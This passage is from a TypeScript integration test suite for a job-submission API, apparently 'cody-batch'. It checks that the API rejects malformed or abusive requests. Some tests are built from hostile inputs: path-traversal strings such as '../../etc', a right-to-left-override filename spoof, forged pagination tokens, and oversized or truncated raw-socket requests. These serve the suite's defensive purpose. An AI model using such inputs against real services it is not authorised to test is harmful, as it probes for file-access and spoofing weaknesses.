      invalid('neither prompt nor command', { prompt: undefined }, /exactly one of prompt/),
      invalid('an unknown field', { createPullRequest: true }, /createPullRequest/),
      invalid('a wrong type', { createPullRequests: 'yes' }, /createPullRequests/),
      [
        'a job too large to store',
        () => ({
          method: 'POST',
          json: {
            ...SEED_BODY,
            // The names no longer count (they go into the rows); the free text does.
            prompt: '€'.repeat(50_000),
            description: '€'.repeat(10_000),
            pullRequest: { body: '€'.repeat(60_000) },
            repositories: Array.from({ length: 1000 }, (_, i) => `${'o'.repeat(39)}/${String(i).padStart(100, 'r')}`),
          },
        }),
        400,
        'VALIDATION_FAILED',
        /too large to store/,
      ],
      invalid(
        'a cost limit DynamoDB cannot store (1e-200)',
        { maxCostUsd: 1e-200 },
        /maxCostUsd: must be at least 0\.01/,
      ),
      invalid('an absurd cost limit (1e300)', { maxCostUsd: 1e300 }, /maxCostUsd: must be at most 10000/),
      invalid(
        'a job name that a right-to-left override turns around (U+202E)',
        { name: 'Update \u202Etxt.exe' },
        /name: must not contain U\+202E/,
      ),
      invalid(
        'an invisible character in the type (U+200B)',
        { type: 'code\u200Bupdate' },
        /type: must not contain U\+200B/,
      ),
      invalid(
        'a note for a repository that is not in the job',
        { repositoryInstructions: { 'acme/stranger': 'Use pnpm.' } },
        /repositoryInstructions\.acme\/stranger: "acme\/stranger" is not one of the job's repositories/,
      ),
      invalid(
        'a note over 2,000 characters',
        { repositoryInstructions: { [SEED_BODY.repositories[0]!]: 'x'.repeat(2001) } },
        /must be at most 2000 characters/,
      ),
      invalid(
        'commands for a command job',
        { prompt: undefined, command: 'true', allowCommands: true },
        /allowCommands: applies to prompt jobs only/,
      ),
      invalid('no repositories', { repositories: [] }, /at least one repository/),
    ];
    it('answers a too-large body with 413 to a client still sending it, not with a broken pipe', async () => {
      // A client that writes its whole 5 MB body before reading, as most do: the server reads the
      // rest and drops it, then answers; it used to answer at once and close, and the writes failed.
      const url = new URL(stack.apiUrl);
      const size = 5 * 1024 * 1024;
      const socket = connect(Number(url.port), url.hostname);
      await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
      let answer = '';
      socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
      const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      const write = (data: string | Buffer) =>
        new Promise<void>((resolve, reject) => socket.write(data, (error) => (error ? reject(error) : resolve())));
      await write(
        `POST /jobs HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Bearer ${stack.token}\r\n` +
          `Content-Type: application/json\r\nContent-Length: ${size}\r\nConnection: close\r\n\r\n`,
      );
      const chunk = Buffer.alloc(64 * 1024, 'x');
      for (let sent = 0; sent < size; sent += chunk.length) await write(chunk);
      await ended;
      assert.match(answer, /^HTTP\/1\.1 413 /);
      assert.match(answer, /PAYLOAD_TOO_LARGE/);
    });

    for (const [what, request, status, code, message] of cases) {
      it(`refuses ${what} with ${status} ${code}`, async () => {
        const before = (await (await api('/jobs?limit=100')).json()).items.length;
        const response = await api('/jobs', request());
        assert.equal(response.status, status);
        const body = await response.json();
        assert.equal(body.error.code, code);
        assert.match(body.error.message, message);
        assert.doesNotMatch(JSON.stringify(body), /at .*\.(ts|js):\d+/, 'no stack trace');
        const after = (await (await api('/jobs?limit=100')).json()).items.length;
        assert.equal(after, before, 'nothing was created');
      });
    }

    it('refuses bad list parameters and tokens', async () => {
      for (const query of [
        'limit=0',
        'limit=101',
        'limit=abc',
        'limit=2.5',
        'nextToken=garbage!',
        `nextToken=${Buffer.from('{"v":1,"k":{"jobId":"x"}}').toString('base64url')}`,
      ]) {
        const response = await api(`/jobs?${query}`);
        assert.equal(response.status, 400, query);
        assert.match((await response.json()).error.code, /VALIDATION_FAILED|INVALID_NEXT_TOKEN/);
      }
    });

    it('refuses tampered tokens of the right shape with 400, on both lists', async () => {
      const job = await createJob();
      const token = (key: Record<string, string>) =>
        Buffer.from(JSON.stringify({ v: 1, k: key })).toString('base64url');
      const tampered = [
        `/jobs?nextToken=${token({ jobId: '', owner: 'local', createdAt: '' })}`,
        `/jobs?nextToken=${token({ jobId: 'x', owner: 'local', createdAt: 'y'.repeat(1100) })}`,
        `/jobs/${job.jobId}/repositories?nextToken=${token({ jobId: job.jobId, repositoryName: '' })}`,
        `/jobs/${job.jobId}/repositories?nextToken=${token({ jobId: job.jobId, repositoryName: 'r'.repeat(1100) })}`,
      ];
      for (const path of tampered) {
        const response = await api(path);
        assert.equal(response.status, 400, path);
        assert.equal((await response.json()).error.code, 'INVALID_NEXT_TOKEN', path);
      }
    });

    it('does not report a client that hangs up mid-body as a storage failure', async () => {
      const { port } = new URL(stack.apiUrl);
      await new Promise<void>((resolve) => {
        const socket = connect(Number(port), '127.0.0.1', () => {
          socket.write(
            `POST /jobs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${stack.token}\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"name":`,
          );
          setTimeout(() => socket.destroy(), 100);
        });
        socket.on('close', () => resolve());
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      assert.doesNotMatch(stack.output(), /storage unavailable|POST \/jobs failed/);
      assert.equal((await fetch(`${stack.apiUrl}/health`)).status, 200);
    });

    it('answers 404 for unknown jobs, repositories and routes, and 401 without the right token', async () => {
      const job = await createJob();
      assert.equal((await api('/jobs/01m8hh1rwgnr9p2a6k5x32xmdr')).status, 404);
      assert.equal((await api('/jobs/..%2F..%2Fetc')).status, 404);
      assert.equal((await api(repositoryPath(job.jobId, 'acme/nope'))).status, 404);
      assert.equal((await api(repositoryPath(job.jobId, '../../etc'))).status, 404);
      assert.equal((await api('/nothing-here')).status, 404);
      assert.equal((await anonymous('/jobs', { headers: { authorization: 'Bearer wrong' } })).status, 401);
      const basic = await anonymous('/jobs', { headers: { authorization: `Basic ${stack.token}` } });
      assert.equal(basic.status, 401);
      assert.equal(basic.headers.get('www-authenticate'), 'Bearer realm="cody-batch"');
      const longId = 'x'.repeat(5_000);
      const long = await api(`/jobs/${longId}`);
      assert.equal(long.status, 404);
      assert.ok(JSON.stringify(await long.json()).length < 400, 'a 404 does not echo a 5,000-character id whole');
    });

    it('answers 405 with Allow for a known path asked with the wrong method', async () => {
      const job = await createJob();
      // DELETE /jobs/{id} exists (a final job only); PATCH does not.
      const patchJob = await api(`/jobs/${job.jobId}`, { method: 'PATCH' });
      assert.equal(patchJob.status, 405);
      assert.equal(patchJob.headers.get('allow'), 'GET, DELETE');
      assert.equal((await patchJob.json()).error.code, 'METHOD_NOT_ALLOWED');
      const getCancel = await api(`/jobs/${job.jobId}/cancel`);
      assert.equal(getCancel.status, 405);
      assert.equal(getCancel.headers.get('allow'), 'POST');
      const putJobs = await api('/jobs', {
        method: 'PUT',
        headers: { 'content-type': 'application/json' },
        body: '{}',
      });
      assert.equal(putJobs.status, 405);
      assert.equal(putJobs.headers.get('allow'), 'GET, POST');
      assert.equal((await api('/jobs', { method: 'GET' })).status, 200);
    });
  });

  describe('pagination', () => {
    it('returns 250 jobs newest first, with no gaps or duplicates', async function () {
      this.timeout(120_000);
      const created = new Set<string>();
      for (let i = 0; i < 250; i++)
        created.add((await createJob({ name: `Job ${i}`, repositories: ['acme/x'] })).jobId);
      for (const limit of [100, 7]) {
        const seen: { jobId: string; createdAt: string }[] = [];
        let token: string | undefined;
        do {
          const page = await (await api(`/jobs?limit=${limit}${token ? `&nextToken=${token}` : ''}`)).json();
          assert.ok(page.items.length <= limit);
          seen.push(...page.items);
          token = page.nextToken;
        } while (token);
        const ids = seen.map((job) => job.jobId);
        assert.equal(new Set(ids).size, ids.length, `duplicates at limit ${limit}`);
        for (const id of created) assert.ok(ids.includes(id), `job ${id} missing at limit ${limit}`);
        for (let i = 1; i < seen.length; i++)
          assert.ok(seen[i - 1]!.createdAt >= seen[i]!.createdAt, `out of order at ${i}`);
      }
    });
  });

  describe('GET /sandbox', () => {
    it('says what holds around the commands of this stack’s jobs (off in this suite), and wants the token', async () => {
      const response = await api('/sandbox');
      assert.equal(response.status, 200);
      const status = await response.json();
      assert.equal(status.state, 'off');
      assert.match(status.message, /CODY_BATCH_SANDBOX=off/);
      assert.ok(status.defaultAllowedHosts.includes('pypi.org:443'));
      assert.equal((await anonymous('/sandbox')).status, 401);
    });
  });

  describe('the OpenAPI document', () => {
    it('GET /openapi.json answers without auth', async () => {
      const response = await anonymous('/openapi.json');
      assert.equal((await response.json()).openapi, '3.1.0');
    });

    // Last: the tests above checked each answer they got against the document.
    it('has had an answer of every operation checked against it', () => {
      assert.deepEqual(checker.unchecked(), []);
    });
  });
});
